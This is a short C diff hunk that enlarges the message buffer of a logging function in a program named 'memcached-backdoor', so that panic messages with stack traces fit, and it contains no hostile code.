@@ -26,7 +26,7 @@ void say_release(void) {
 void say(const char *format, ...) {
     static const char name[] = "memcached-backdoor: ";
     int saved = errno;
-    char line[512];
+    char line[4096]; /* a panic comes with its stack */
     size_t length = sizeof name - 1;
     va_list args;
 
